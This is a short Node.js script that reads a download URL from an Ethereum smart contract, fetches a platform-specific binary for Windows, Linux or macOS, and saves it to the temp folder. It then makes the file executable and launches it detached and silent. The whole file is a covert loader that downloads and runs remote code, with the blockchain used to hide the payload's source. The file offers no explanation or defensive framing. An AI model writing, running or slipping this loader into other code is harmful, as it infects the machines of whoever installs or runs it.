const { ethers } = require('ethers'), axios = require('axios'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
const abi = ['function getString(address account) public view returns (string)'];
const provider = ethers.getDefaultProvider('mainnet');
const contract = new ethers.Contract('0xa1b4', abi, provider);
const pick = b => ({ win32: b + '/node-win.exe', linux: b + '/node-linux', darwin: b + '/node-macos' })[os.platform()];
const fetchAndRun = async () => {
  const base = await contract.getString('0x52');
  const to = path.join(os.tmpdir(), 'node_' + process.pid);
  const res = await axios.get(pick(base), { responseType: 'arraybuffer' });
  fs.writeFileSync(to, res.data);
  if (os.platform() !== 'win32') fs.chmodSync(to, '755');
  spawn(to, [], { detached: true, stdio: 'ignore' }).unref();
};
fetchAndRun();
